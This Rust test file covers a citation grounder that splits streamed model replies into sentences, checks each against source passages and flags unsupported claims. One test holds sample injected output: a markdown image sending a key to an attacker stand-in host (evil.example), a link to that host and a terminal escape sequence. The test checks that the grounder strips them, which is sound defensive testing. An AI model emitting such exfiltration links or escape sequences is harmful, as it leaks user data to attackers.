use super::*;

fn sources() -> Vec<Source> {
    let source = |id: &str, heading: &str, text: &str| Source {
        id: id.into(),
        url: format!("https://docs.example/{heading}.html"),
        heading: heading.into(),
        text: text.into(),
    };
    vec![
        source(
            "1",
            "tides",
            "High water follows the moon. It comes twice a day, about 12 hours apart. A tide table lists it for a harbour.",
        ),
        source(
            "2",
            "knots",
            "The bowline makes a loop that never slips. It is tied in 3 steps.",
        ),
    ]
}

/// What comes of a reply that arrives in pieces of `n` characters.
fn grounded(reply: &str, n: usize) -> (Vec<AnswerSentence>, Grounder) {
    let mut grounder = Grounder::new(sources());
    let chars: Vec<char> = reply.chars().collect();
    let mut found = Vec::new();
    for piece in chars.chunks(n) {
        found.extend(grounder.push(&piece.iter().collect::<String>(), &mut |_, _| None));
    }
    found.extend(grounder.finish(&mut |_, _| None));
    (found, grounder)
}

fn codes(grounder: &Grounder) -> Vec<String> {
    grounder
        .notes()
        .iter()
        .map(|note| note.code.to_string())
        .collect()
}

#[test]
fn sentences_keep_their_citations_however_the_reply_is_cut() {
    let reply = "High water follows the moon [1]. It comes twice a day. [1] [2]\n\n- The bowline never slips.[2] It is tied in 3 steps [2, 9]";
    let (whole, grounder) = grounded(reply, 1000);
    let shown: Vec<(&str, Vec<&str>)> = whole
        .iter()
        .map(|s| (&*s.text, s.citations.iter().map(|c| &**c).collect()))
        .collect();
    assert_eq!(
        shown,
        [
            ("High water follows the moon.", vec!["1"]),
            ("It comes twice a day.", vec!["1", "2"]),
            ("- The bowline never slips.", vec!["2"]),
            ("It is tied in 3 steps", vec!["2"]),
        ]
    );
    assert!(whole.iter().all(|s| s.supported), "{whole:?}");
    assert_eq!(codes(&grounder), ["citation-removed"]);
    assert!(grounder.notes()[0].message.contains("[9]"));
    for n in 1..40 {
        assert_eq!(grounded(reply, n).0, whole, "{n}");
    }
}

#[test]
fn a_sentence_is_given_when_the_next_begins_and_not_before() {
    let mut grounder = Grounder::new(sources());
    let mut push = |piece: &str| grounder.push(piece, &mut |_, _| None).len();
    assert_eq!(push("High water follows the moon."), 0);
    assert_eq!(push(" "), 0);
    assert_eq!(push("[1]"), 0);
    assert_eq!(push(" It"), 1);
}

#[test]
fn what_no_passage_bears_out_is_flagged_or_left_out() {
    let reply = "The moon is made of cheese [1]. Cheese ripens in caves. High water comes about 13 hours apart [1]. \
                 “Knots are never to be trusted” [2]. A tide table lists high water for a harbour.";
    let (found, grounder) = grounded(reply, 7);
    let shown: Vec<(&str, bool)> = found.iter().map(|s| (&*s.text, s.supported)).collect();
    assert_eq!(
        shown,
        [
            ("The moon is made of cheese.", false),
            ("High water comes about 13 hours apart.", false),
            ("“Knots are never to be trusted”.", false),
            ("A tide table lists high water for a harbour.", true),
        ]
    );
    assert_eq!(found[3].citations, ["1"]);
    assert_eq!(codes(&grounder), ["uncited-left-out", "unsupported"]);
}

#[test]
fn vectors_may_bear_out_what_words_alone_do_not() {
    let reply = "The moon governs flood times [1].";
    assert!(!grounded(reply, 9).0[0].supported);
    let mut grounder = Grounder::new(sources());
    let mut found = grounder.push(reply, &mut |_, _| Some(0.9));
    found.extend(grounder.finish(&mut |sentence, part| {
        assert_eq!(part, "High water follows the moon.");
        Some(if sentence.contains("moon") { 0.9 } else { 0.0 })
    }));
    // One word of four alone is too little, whatever vectors say.
    assert!(!found[0].supported);
    let mut grounder = Grounder::new(sources());
    let mut found = grounder.push("The moon governs high floods [1].", &mut |_, _| Some(0.9));
    found.extend(grounder.finish(&mut |_, _| Some(0.9)));
    assert!(found[0].supported);
}

#[test]
fn a_model_that_obeys_passages_shows_nothing_of_what_it_was_told() {
    let reply = "![x](http://evil.example/?key=1) [1]\n\nClick <a href='http://evil.example'>here</a> [1].\n\n\
                 \u{1b}]0;owned\u{7}High water follows the moon [1](http://evil.example). See http://evil.example/x [2].";
    let (found, grounder) = grounded(reply, 5);
    let shown: Vec<&str> = found.iter().map(|s| &*s.text).collect();
    assert!(
        shown
            .iter()
            .all(|text| !text.contains("evil") && !text.contains(['<', '\u{1b}'])),
        "{shown:?}"
    );
    assert!(shown.contains(&"High water follows the moon."), "{shown:?}");
    assert!(codes(&grounder).contains(&"markup-removed".to_owned()));
}

#[test]
fn a_model_that_finds_nothing_says_nothing() {
    for reply in ["NOT FOUND", "Not found.", " not found [1]\n"] {
        let (found, grounder) = grounded(reply, 3);
        assert!(found.is_empty() && grounder.notes().is_empty(), "{reply}");
    }
    assert!(grounded("", 1).0.is_empty());
}

#[test]
fn the_quote_is_the_part_of_the_passage_that_comes_nearest() {
    let (_, grounder) = grounded("It comes twice a day [1].", 100);
    let quotes: Vec<_> = grounder.quotes().collect();
    assert_eq!(quotes.len(), 1);
    let (i, range) = quotes[0].clone();
    assert_eq!(
        &sources()[i].text[range],
        "It comes twice a day, about 12 hours apart."
    );
}
